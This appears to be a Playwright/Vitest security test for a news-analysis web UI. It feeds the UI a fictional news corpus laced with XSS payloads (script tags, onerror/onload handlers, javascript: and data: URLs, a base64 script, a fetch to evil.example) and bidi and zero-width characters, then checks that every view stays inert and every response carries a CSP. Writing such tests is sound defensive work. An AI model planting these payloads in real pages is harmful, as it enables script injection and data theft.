import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openUi, type UiSession, settled } from './harness.js';

/**
 * A corpus written to attack the UI: markup, event handlers, javascript: and data: URLs, bidi overrides,
 * zero-width characters and HTML entities, in titles, bodies, names, quotes and source lines. Every view must
 * show it as text: no script runs, no request leaves the server, and every answer carries the CSP.
 */
const RLO = '\u202E';
const ZWSP = '\u200B';
const HOSTILE = `<script>window.__pwned=1</script> Minister &amp; <b>Ilvana Karst</b> ${RLO}gpj.exe${ZWSP} talks

KORVALA — Foreign Minister Ilvana Karst met Defence Minister Toma Reskin in Korvala on Monday, officials said. <img src=x onerror="window.__pwned=1"> The talks covered the border.

"We will not accept <svg onload=window.__pwned=1> any threat," Karst said on Monday, according to <a href="javascript:window.__pwned=1">the ministry</a>.

Reskin accused the Velmar government of shelling the border on Sunday. Velmar denied it on Tuesday and called the claim &lt;iframe src=data:text/html,&lt;script&gt;window.__pwned=1&lt;/script&gt;&gt;.

A link was circulated: data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+ and javascript:window.__pwned=1 and https://evil.example/beacon.gif

Source: javascript:window.__pwned=1


Velmar${ZWSP} army ${RLO}shells${ZWSP} &quot;border&quot; town <iframe src="javascript:window.__pwned=1"></iframe>

VELMAR — The Velmar army shelled the border town of Dunrest on Wednesday, residents said. Toma Reskin condemned the attack on Thursday.

"This is <script>fetch('https://evil.example/x')</script> an outrage," Reskin said on Thursday. Ilvana Karst called for talks with Velmar.

Source: data:text/html,<script>window.__pwned=1</script>
`;

const CSP =
  "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'";

let ui: UiSession;
let page: Page;
let base: string;
const requests: string[] = [];
const missingCsp: string[] = [];

beforeAll(async () => {
  ui = await openUi([], { 'hostile.txt': HOSTILE });
  ({ page, base } = ui);
  page.on('request', (r) => requests.push(r.url()));
  page.on('response', (r) => {
    if (r.headers()['content-security-policy'] !== CSP) missingCsp.push(r.url());
  });
}, 120_000);

afterAll(async () => {
  await ui?.close();
});

/** Nothing the corpus carried became live: no script ran, no element got a handler, markup or a live link. */
async function expectInert(view: string): Promise<void> {
  const found = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: number }).__pwned,
    scripts: document.scripts.length,
    handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name)))
      .length,
    embeds: document.querySelectorAll(
      'main img, main iframe, main svg:not(#network-graph), main object, main embed, main b',
    ).length,
    liveLinks: [...document.querySelectorAll('a[href]')].filter((a) =>
      /^\s*(javascript|data|vbscript):/i.test(a.getAttribute('href') ?? ''),
    ).length,
  }));
  expect(found, view).toEqual({ pwned: undefined, scripts: 1, handlers: 0, embeds: 0, liveLinks: 0 });
}

describe('a hostile corpus in every view', () => {
  it('lists and reads the articles as text, bidi and zero-width characters kept inert', async () => {
    await page.goto(`${base}/#/articles`);
    await settled(page);
    await page.waitForSelector('#article-list li');
    const titles = await page.locator('#article-list a.article-link').allTextContents();
    expect(titles.some((t) => t.includes('<script>window.__pwned=1</script>') && t.includes('&amp;'))).toBe(true);
    // The bidi override stays in the text (shown, not obeyed as markup); ingest drops zero-width characters.
    expect(titles.some((t) => t.includes(`army ${RLO}shells &quot;border&quot; town <iframe`))).toBe(true);
    await expectInert('articles');
    for (const i of [0, 1]) {
      await page.goto(`${base}/#/articles`);
      await settled(page);
      await page.waitForSelector('#article-list li');
      await page.locator('#article-list a.article-link').nth(i).click();
      await page.waitForSelector('#article-body');
      expect(await page.textContent('#article-body')).toMatch(/<img |<script>/);
      await expectInert(`article ${i}`);
    }
  });

  it('shows actors, an actor, the timeline, the network, the claims and the sources as text', async () => {
    for (const [view, ready] of [
      ['entities', '#entity-table'],
      ['timeline', 'main h2'],
      ['network', '#network-range'],
      ['ledger', 'main h2'],
      ['sources', '#source-url'],
    ] as const) {
      await page.goto(`${base}/#/${view}`);
      await settled(page);
      await page.waitForSelector(ready);
      await expectInert(view);
    }
    await page.goto(`${base}/#/entities`);
    await settled(page);
    await page.waitForSelector('#entity-table a');
    await page.locator('#entity-table a').first().click();
    await page.waitForSelector('#actor-name');
    await expectInert('actor');
  });

  it('searches with markup in the query and shows hits as text', async () => {
    await page.goto(`${base}/#/search/${encodeURIComponent('<script>window.__pwned=1</script> Velmar')}`);
    await settled(page);
    await page.waitForSelector('#search-results li, #search-empty');
    expect(await page.textContent('main h2')).toContain('<script>');
    await expectInert('search');
  });

  it('sent no request anywhere but the server, and every answer carried the CSP', () => {
    expect(requests.length).toBeGreaterThan(10);
    expect(requests.filter((u) => !u.startsWith(`${base}/`))).toEqual([]);
    expect(missingCsp).toEqual([]);
  });
});
